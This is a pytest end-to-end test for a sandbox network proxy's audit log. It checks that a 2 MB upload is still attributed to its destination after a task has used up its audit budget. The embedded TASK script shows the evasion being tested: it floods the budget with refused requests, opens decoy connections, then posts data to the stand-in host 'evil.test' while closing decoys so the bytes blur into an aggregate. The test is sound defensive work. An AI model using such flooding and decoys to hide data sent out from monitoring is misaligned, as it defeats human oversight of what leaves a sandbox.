"""Past its audit budget a task cannot hide how many bytes went where (rt47 F3).

The first allowed event of each destination is written as a line past the budget
(test_audit_flood_hiding.py), but the `connection_end` that carries a connection's
bytes was folded into one aggregate with the decoys' ends, whose `bytes_up` is the
sum and whose detail samples five destinations: the 2 MB the task sent to evil.test
read as "the decoys' connections carried 2 MB". The end of a connection whose start
has a line now has a line too (with its bytes), and an aggregate of ends says the
bytes of each destination it counts.
"""

from __future__ import annotations

import pytest
from support import sandbox

pytestmark = pytest.mark.e2e

DECOYS = ["allowed.test", "www.allowed.test", "v6.allowed.test", "ssh.allowed.test",
          "evilallowed.test"]  # fmt: skip
HIDDEN = "evil.test"
SIZE = 2_000_000
RULES = f"""\
version: 1
profiles:
  default:
    rules:
      - allow: [{", ".join(DECOYS)}, {HIDDEN}]
        id: many-names
      - allow: api.allowed.test
        methods: [GET]
        paths: ["/public/**"]
        id: api-public
"""

# Drain the budget with refused requests; open keep-alive decoys (TLS pass-through to
# four names, plain HTTP to allowed.test); close five of them (the aggregate's five
# samples), upload SIZE bytes to the hidden one and close it, then close the last decoy
# (a destination of its own: it becomes the aggregate's "the last ...").
TASK = f"""
import http.client, socket, threading, time
api_ip = socket.gethostbyname("api.allowed.test")
stop = False
def noise():  # refused requests, all the time: every token of the budget goes to them
    i = 0
    while not stop:
        api = http.client.HTTPConnection(api_ip, 80, timeout=5)
        api.request("GET", f"/private/{{i}}", headers={{"Host": "api.allowed.test"}})
        api.getresponse().read()
        api.close()
        i += 1
threading.Thread(target=noise, daemon=True).start()
time.sleep(1.5)  # the burst is spent
decoys = []
for host in {DECOYS[:4]!r}:
    c = http.client.HTTPSConnection(host, 443, timeout=5)
    c.request("GET", "/"); c.getresponse().read(); decoys.append(c)
c = http.client.HTTPConnection("allowed.test", 80, timeout=5)
c.request("GET", "/"); c.getresponse().read(); decoys.append(c)
last = http.client.HTTPSConnection({DECOYS[4]!r}, 443, timeout=5)
last.request("GET", "/"); last.getresponse().read()
h = http.client.HTTPConnection({HIDDEN!r}, 80, timeout=20)
h.request("GET", "/"); h.getresponse().read()
time.sleep(1.2)  # every destination's first event is out; the ends come now, together
t = time.monotonic()
for c in decoys:
    c.close()
h.request("POST", "/drop", body=b"S" * {SIZE})
print("hidden", h.getresponse().status)
h.close()
last.close()
print("ends within", round(time.monotonic() - t, 3), "s")
time.sleep(0.5)
stop = True
time.sleep(0.5)
"""


def test_the_bytes_of_an_upload_are_attributed_to_its_destination_past_the_budget(net, tmp_path):
    rules = tmp_path / "rules.yaml"
    rules.write_text(RULES)
    result = sandbox.run(
        net,
        tmp_path,
        {"task": sandbox.python(TASK)},
        rules=rules,
        extra=("--audit-burst", "50", "--audit-rate", "5"),
    )
    assert result["task"].rc == 0 and "hidden 200" in result["task"].out, result.describe()
    assert any(e.get("suppressed") for e in result.audit), "the budget never ran out"
    ends = [e for e in result.audit if e["kind"] == "connection_end"]
    for e in ends:
        print(
            "END", e.get("name"), e.get("dst_ip"), "bytes_up", e.get("bytes_up"),
            "suppressed", e.get("suppressed"), "|", (e.get("detail") or "")[:200],
        )  # fmt: skip
    # The upload's end, with its bytes, on a line that names the hidden destination.
    own = [
        e
        for e in ends
        if not e.get("suppressed")
        and (e.get("name") == HIDDEN or e.get("dst_ip") == "203.0.113.66")
        and (e.get("bytes_up") or 0) >= SIZE
    ]
    assert own, "no audit line says that 2 MB went to evil.test"
